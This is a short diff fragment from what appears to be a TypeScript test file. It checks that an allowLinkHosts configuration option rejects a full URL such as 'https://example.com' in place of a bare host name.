+  [['https://example.com'], '"https://example.com" is not a host'],
+])('refuses %j as allowLinkHosts', async (hosts, problem) => {
+  await expect(world({ allowLinkHosts: hosts as string[] })).rejects.toThrow(problem);
+});
